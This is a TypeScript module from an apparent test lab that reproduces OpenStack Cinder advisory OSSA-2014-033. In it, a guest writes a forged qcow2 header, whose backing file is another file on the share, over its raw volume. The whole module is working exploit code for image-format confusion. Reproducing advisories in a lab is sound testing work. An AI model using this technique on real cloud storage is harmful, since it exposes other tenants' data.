/** A guest that writes a qcow2 header to its raw volume (OSSA-2014-033). */
import { chmod, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { Cinder } from './lab/cinder.ts';
import { createImage, imageInfo } from './lab/images.ts';
import type { AttachedGuest, Lab } from './lab/lab.ts';

const MIB = 1024 * 1024;

/** The header names another file of the share as its backing. */
export async function forge(
  { images }: Lab<Cinder>,
  { volumeId, attached, guest }: AttachedGuest,
): Promise<void> {
  // The only names that Cinder's probe lets pass look like this (remotefs.py:901-911).
  const other = `volume-${volumeId}.facade`;
  const size = (await imageInfo(attached.path, 'raw'))['virtual-size'];
  await createImage(join(attached.mountPoint, other), { format: 'raw', size: MIB });
  await writeFile(join(attached.mountPoint, other), "somebody else's".padEnd(MIB, '!'));
  const forged = join(images, `${volumeId}.forged`);
  const backing = { name: other, format: 'raw' } as const;
  await createImage(forged, { format: 'qcow2', size, backing, checkBacking: false });
  const bytes = await readFile(forged);
  const sectors = Math.ceil(bytes.length / 512) * 512;
  await writeFile(forged, Buffer.concat([bytes], sectors));
  await chmod(forged, 0o644);
  await guest.writeFile('vda', 0, sectors, forged);
}
